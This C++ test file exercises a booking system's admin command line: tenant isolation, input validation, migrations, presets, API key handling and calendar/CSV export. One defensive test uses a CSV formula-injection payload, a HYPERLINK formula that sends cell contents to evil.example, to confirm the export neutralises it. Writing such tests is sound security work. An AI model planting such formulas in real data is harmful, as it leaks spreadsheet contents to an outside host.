// The admin command line (`slotwise init|tenant|resource|hours|service|book|
// cancel|bookings|export|migrate`), run as a user runs it: the real binary
// on a real SQLite file. Each case is the mistake or the attack it stops.
#include "support/process.hpp"
#include "support/temp_dir.hpp"

#include <slotwise/sqlite.hpp>
#include <slotwise/time.hpp>

#include <doctest/doctest.h>
#include <nlohmann/json.hpp>
#include <sqlite3.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

using slotwise::test::ProcessResult;
using slotwise::test::run_process;
using slotwise::test::slurp;
using slotwise::test::TempDir;

namespace {

const std::string cli = SLOTWISE_CLI;

ProcessResult slotwise_cmd(std::vector<std::string> args) {
    args.insert(args.begin(), cli);
    return run_process(args);
}

// Runs a command that must succeed and returns its --json document.
nlohmann::json ok_json(std::vector<std::string> args) {
    args.push_back("--json");
    const auto r = slotwise_cmd(args);
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    CHECK(r.err.empty());
    return nlohmann::json::parse(r.out);
}

// A command that must be refused: exit 2, one "error: FIELD: …" line, no output.
std::string refused(std::vector<std::string> args) {
    const auto r = slotwise_cmd(args);
    INFO(r.out);
    CHECK(r.exit_code == 2);
    CHECK(r.out.empty());
    CHECK(r.err.rfind("error: ", 0) == 0);
    CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);
    return r.err;
}

// Monday of the week after next, 09:00 in Rome as UTC (CET in the winter
// months the test dates fall on does not matter: the instant is read back).
std::string next_monday_at(const char* local_hhmm) {
    using namespace date;
    const auto today = floor<days>(std::chrono::system_clock::now());
    const auto monday = today + days{14} - (weekday{today} - Monday);
    const auto zone = locate_zone("Europe/Rome");
    const auto local = local_days{year_month_day{monday}} + slotwise::parse_local_time(local_hhmm);
    return slotwise::format_instant(std::chrono::time_point_cast<std::chrono::seconds>(zone->to_sys(local)));
}

void exec_sql(const std::string& path, const std::string& sql) {
    sqlite3* db = nullptr;
    REQUIRE(sqlite3_open(path.c_str(), &db) == SQLITE_OK);
    char* message = nullptr;
    const int rc = sqlite3_exec(db, sql.c_str(), nullptr, nullptr, &message);
    INFO((message ? message : ""));
    sqlite3_free(message);
    sqlite3_close(db);
    REQUIRE(rc == SQLITE_OK);
}

std::string fixture(const std::string& name) {
    std::ifstream in(std::string(SLOTWISE_TEST_DIR) + "/sqlite/" + name);
    REQUIRE(in);
    return {std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
}

struct Shop {
    TempDir dir;
    std::string db = dir.file("shop.db");
    std::string tenant, anna, room, cut;
    Shop() {
        tenant = ok_json({"init", db, "--name", "Salon Bella"})["tenant"]["id"];
        anna = ok_json({"resource", "add", db, "--name", "Anna", "--timezone", "Europe/Rome"})["resource"]["id"];
        room = ok_json({"resource", "add", db, "--name", "Room 1", "--timezone", "Europe/Rome", "--kind", "room"})
            ["resource"]["id"];
        ok_json({"hours", "set", db, anna, "mon=09:00-13:00,14:00-18:00", "fri=19:00-26:00"});
        ok_json({"hours", "set", db, room, "mon=08:00-20:00"});
        cut = ok_json({"service", "add", db, "--name", "Cut", "--duration", "30", "--resources", anna,
                       "--resources", room})["service"]["id"];
    }
};

}  // namespace

TEST_CASE("init makes a database with one tenant and never reuses an existing file") {
    TempDir dir;
    const auto db = dir.file("shop.db");
    const auto made = ok_json({"init", db, "--name", "Bar Roma"});
    CHECK(made["tenant"]["name"] == "Bar Roma");
    CHECK(std::string(made["tenant"]["id"]).rfind("ten_", 0) == 0);
    // A second init would silently put a second business in the same file.
    const auto before = slurp(db);
    CHECK(refused({"init", db}).find("error: DB: already exists") == 0);
    CHECK(slurp(db) == before);
    // Any other command on a missing file refuses it rather than creating one.
    const auto missing = dir.file("typo.db");
    CHECK(refused({"resource", "list", missing}).find("error: DB: no such file") == 0);
    CHECK_FALSE(std::filesystem::exists(missing));
}

TEST_CASE("a catalogue made on the command line books, lists, cancels and exports") {
    Shop shop;
    const auto hours = ok_json({"hours", "show", shop.db, shop.anna});
    CHECK(hours["weekly"]["fri"] == nlohmann::json::array({{"19:00", "26:00"}}));
    CHECK(hours["weekly"]["tue"].empty());
    const auto svc = ok_json({"service", "list", shop.db})["services"][0];
    CHECK(svc["resource_groups"] == nlohmann::json::array({{shop.anna}, {shop.room}}));

    const auto start = next_monday_at("09:00");
    const auto booked = ok_json({"book", shop.db, "--service", shop.cut, "--start", start, "--name", "Ada",
                                 "--email", "ada@example.com"})["booking"];
    CHECK(booked["status"] == "confirmed");
    CHECK(booked["resource_ids"] == nlohmann::json::array({shop.anna, shop.room}));
    // The same start again: the doctor-and-room rule holds through the CLI.
    CHECK(refused({"book", shop.db, "--service", shop.cut, "--start", start, "--name", "Bob"}).find("slot") !=
          std::string::npos);

    const auto listed = ok_json({"bookings", shop.db, "--status", "confirmed"})["bookings"];
    REQUIRE(listed.size() == 1);
    CHECK(listed[0]["id"] == booked["id"]);
    CHECK(ok_json({"cancel", shop.db, booked["id"]})["booking"]["status"] == "cancelled");
    CHECK(ok_json({"bookings", shop.db, "--status", "confirmed"})["bookings"].empty());

    const auto ics = slotwise_cmd({"export", shop.db, "--format", "ics"});
    REQUIRE(ics.exit_code == 0);
    CHECK(ics.out.find("METHOD:PUBLISH") != std::string::npos);
    CHECK(ics.out.find("SUMMARY:Cut — Ada") != std::string::npos);
    CHECK(ics.out.find("STATUS:CANCELLED") != std::string::npos);
}

TEST_CASE("a CSV export never hands a spreadsheet a formula from a customer's name") {
    Shop shop;
    ok_json({"book", shop.db, "--service", shop.cut, "--start", next_monday_at("10:00"), "--name",
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "--phone", "+39 333 1234567"});
    const auto out = shop.dir.file("bookings.csv");
    const auto r = ok_json({"export", shop.db, "--format", "csv", "--output", out});
    CHECK(r["exported"] == 1);
    const auto csv = slurp(out);
    CHECK(csv.rfind("id,service_id,resource_ids,start,end,seats,status", 0) == 0);
    // Quoted, its quotes doubled, and prefixed so that it is text.
    CHECK(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",") != std::string::npos);
    CHECK(csv.find(",'+39 333 1234567,") != std::string::npos);
    CHECK(csv.find("\r\n") != std::string::npos);
    CHECK_FALSE(std::filesystem::exists(out + ".partial"));
}

TEST_CASE("a typo in an option is an error listing the valid ones, not an option ignored") {
    Shop shop;
    const auto err = refused({"resource", "add", shop.db, "--nme", "Bob", "--timezone", "Europe/Rome"});
    CHECK(err.find("error: --nme: unknown option; valid options: --json, --tenant, --name") == 0);
    CHECK(refused({"resource", "add", shop.db, "--name", "Bob"}).find("error: --timezone: missing") == 0);
    CHECK(refused({"resource", "add", shop.db, "--name", "Bob", "--timezone", "Mars/Base"}).find("timezone") !=
          std::string::npos);
    CHECK(refused({"hours", "set", shop.db, shop.anna, "mon=09:00-25:00x"}).find("error: hours.mon[0]") == 0);
    CHECK(refused({"hours", "set", shop.db, shop.anna, "funday=09:00-10:00"}).find("DAY one of") != std::string::npos);
    CHECK(refused({"bookings", shop.db, "--limit", "0"}).find("error: --limit: must be between 1 and 1000") == 0);
    CHECK(refused({"tenant", "frob", shop.db}).find("error: tenant: unknown subcommand") == 0);
    CHECK(refused({"export", shop.db, "--format", "xls"}).find("error: --format") == 0);
    // Nothing of the refused commands was written.
    CHECK(ok_json({"resource", "list", shop.db})["resources"].size() == 2);
}

TEST_CASE("with two tenants the CLI makes the operator name one, and an id of the other tenant is not found") {
    Shop shop;
    const auto other = ok_json({"tenant", "add", shop.db, "Clinic"})["tenant"]["id"].get<std::string>();
    CHECK(ok_json({"tenant", "list", shop.db})["tenants"].size() == 2);
    CHECK(refused({"resource", "list", shop.db}).find("error: --tenant: the database has several tenants") == 0);
    CHECK(refused({"resource", "list", shop.db, "--tenant", "ten_000000000000000000000000"}).find("no such tenant") !=
          std::string::npos);
    const auto b = ok_json({"book", shop.db, "--tenant", shop.tenant, "--service", shop.cut, "--start",
                            next_monday_at("11:00"), "--name", "Ada"})["booking"]["id"].get<std::string>();
    // The clinic's admin cancels the salon's booking by its id: not found, and it stands.
    CHECK(refused({"cancel", shop.db, b, "--tenant", other}).find("not found") != std::string::npos);
    CHECK(ok_json({"bookings", shop.db, "--tenant", other})["bookings"].empty());
    CHECK(ok_json({"bookings", shop.db, "--tenant", shop.tenant, "--status", "confirmed"})["bookings"].size() == 1);
}

TEST_CASE("migrate reports an old file's version, a dry run leaves it untouched, apply brings it up to date") {
    TempDir dir;
    const auto db = dir.file("old.db");
    for (const char* step : {"schema_v1.sql", "schema_v1_to_v2.sql", "schema_v2_to_v3.sql", "schema_v3_to_v4.sql",
                             "schema_v4_to_v5.sql", "schema_v5_to_v6.sql"}) {
        exec_sql(db, fixture(step));
    }
    const int latest = slotwise::sqlite_schema_version();
    const auto status = ok_json({"migrate", "status", db});
    CHECK(status["version"] == 6);
    CHECK(status["latest"] == latest);
    CHECK(status["pending"] == latest - 6);
    const auto before = slurp(db);
    const auto dry = ok_json({"migrate", "apply", db, "--dry-run"});
    CHECK(dry["dry_run"] == true);
    CHECK(dry["pending"] == latest - 6);
    CHECK(slurp(db) == before);
    CHECK(ok_json({"migrate", "status", db})["version"] == 6);
    CHECK(ok_json({"migrate", "apply", db})["version"] == 6);
    CHECK(ok_json({"migrate", "status", db})["pending"] == 0);
    CHECK(ok_json({"migrate", "apply", db})["pending"] == 0);

    // A database of another application is refused, not "migrated".
    const auto foreign = dir.file("foreign.db");
    exec_sql(foreign, "CREATE TABLE photos (id INTEGER PRIMARY KEY)");
    const auto foreign_before = slurp(foreign);
    CHECK(refused({"migrate", "apply", foreign}).find("not a slotwise database") != std::string::npos);
    CHECK(refused({"migrate", "status", foreign}).find("not a slotwise database") != std::string::npos);
    CHECK(slurp(foreign) == foreign_before);
}

TEST_CASE("init with a preset seeds a bookable catalogue; a bad preset option leaves no file behind") {
    TempDir dir;
    const auto db = dir.file("salone.db");
    const auto made = ok_json({"init", db, "--preset", "salon", "--timezone", "Europe/Rome", "--locale", "it"});
    CHECK(made["resources"].size() == 4);
    CHECK(made["services"][0]["name"] == "Taglio");
    CHECK(ok_json({"hours", "show", db, made["resources"][0]["id"]})["weekly"]["tue"] ==
          nlohmann::json::array({{"09:00", "13:00"}, {"14:00", "19:00"}}));
    CHECK(ok_json({"service", "list", db})["services"].size() == 2);

    for (const auto& bad : std::vector<std::vector<std::string>>{
             {"--preset", "bakery", "--timezone", "Europe/Rome"},
             {"--preset", "salon"},
             {"--preset", "salon", "--timezone", "Europe/Nowhere"},
             {"--preset", "salon", "--timezone", "Europe/Rome", "--locale", "fr"},
             {"--timezone", "Europe/Rome"}}) {
        const auto other = dir.file("other.db");
        std::vector<std::string> args{"init", other};
        args.insert(args.end(), bad.begin(), bad.end());
        CAPTURE(bad.at(1));
        refused(args);
        CHECK_FALSE(std::filesystem::exists(other));
    }
}

TEST_CASE("keys: a minted secret is printed once, never listed, and a revoked key is marked") {
    Shop shop;
    const auto made = ok_json({"keys", "add", shop.db, "--role", "customer", "--subject", "user-42", "--label", "app"});
    const std::string secret = made["key"]["secret"];
    CHECK(secret.rfind("swk_", 0) == 0);
    CHECK(secret.size() == 68);
    const auto listed = ok_json({"keys", "list", shop.db});
    REQUIRE(listed["keys"].size() == 1);
    CHECK(listed["keys"][0]["subject"] == "user-42");
    // Neither the secret nor its hash is ever printed again.
    CHECK(listed.dump().find(secret.substr(4)) == std::string::npos);
    CHECK_FALSE(listed["keys"][0].contains("secret"));
    CHECK_FALSE(listed["keys"][0].contains("hash"));
    CHECK(refused({"keys", "add", shop.db, "--role", "customer"}).find("subject") != std::string::npos);
    CHECK(refused({"keys", "add", shop.db, "--role", "owner"}).find("error: --role") == 0);
    const std::string id = made["key"]["id"];
    ok_json({"keys", "revoke", shop.db, id});
    CHECK_FALSE(ok_json({"keys", "list", shop.db})["keys"][0]["revoked_at"].is_null());
    CHECK(refused({"keys", "revoke", shop.db, id}).find("not found") != std::string::npos);
}
